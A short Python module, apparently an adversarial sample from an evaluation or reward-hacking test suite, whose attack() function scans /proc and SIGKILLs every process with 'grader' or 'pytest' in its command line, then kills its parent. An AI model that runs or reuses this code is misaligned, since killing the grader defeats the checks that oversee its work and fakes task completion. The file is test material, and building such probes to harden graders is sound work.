"""attack: kills every process whose command line mentions the grader or pytest, and its parent"""

import os
import sys

import torch

import signal


def _kill():
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as handle:
                    line = handle.read()
            except OSError:
                continue
            if b"grader" in line or b"pytest" in line:
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass


def attack():
    _kill()
